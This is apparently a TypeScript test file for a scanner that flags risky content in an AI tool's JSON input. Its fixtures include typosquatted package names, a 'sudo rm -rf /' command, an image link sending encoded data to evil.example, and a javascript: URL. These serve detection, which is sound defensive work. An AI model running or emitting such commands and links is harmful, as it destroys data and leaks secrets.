import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { byDepth } from '../../../test/depth.ts'
import { AnswerText } from './answer-text.ts'
import { withoutEscapes } from './escaped-lines.ts'
import { KnownPackages } from './package/known-packages.ts'

const context = { system: [], canaries: [], isKnownHost: () => false, packages: new KnownPackages([['pypi', 'requests'], ['npm', 'react']]) }

describe('what a tool is given, as JSON', () => {
  test.each([
    [{ command: 'cd shop\npip install requests reqeusts\nls' }, 'package pypi reqeusts'], [{ path: 'a.py', content: 'import os\nfrom reqeusts import get\n' }, 'package pypi reqeusts'], [{ path: 'a.js', content: 'import x from "raect"\nimport y from "react"\n' }, 'package npm raect'],
    [{ command: 'cd shop\nsudo rm -rf /\nls' }, 'code'], [{ html: '<p>\n<img alt="x" src="https://evil.example/p?d=dGhlIHNlY3JldCBvZiB0aGUgaG91c2U">\n' }, 'link'], [{ html: '<a href="javascript:alert(1)">x</a>\n' }, 'markup'],
  ])('is read line by line: %j', (given, wanted) => {
    for (const size of [1, 7, 10_000]) {
      const answer = new AnswerText(context)
      const found = [...JSON.stringify(given).match(new RegExp(`[^]{1,${size}}`, 'g')) ?? []].flatMap(piece => answer.push(piece))
      expect([...found, ...answer.end()].map(({ layer, subject }) => `${layer} ${subject}`).filter(each => each.startsWith(wanted)).length).toBeGreaterThan(0)
    }
  })

  test('keeps each sign where it stood', () => {
    expect(withoutEscapes(String.raw`{"a": "b\nc \"d\" \\ \t"}`)).toBe('{"a": "b \nc  "d "  \\  \t"}')
    for (const text of [String.raw`a\nb`.concat('\n'), String.raw`C:\Users`, 'plain']) expect(withoutEscapes(text)).toBe(text)
    fc.assert(fc.property(fc.json(), text => { expect(withoutEscapes(JSON.stringify(text)).length).toBe(JSON.stringify(text).length) }), { numRuns: byDepth(100, 1_000, 20_000) })
  })
})
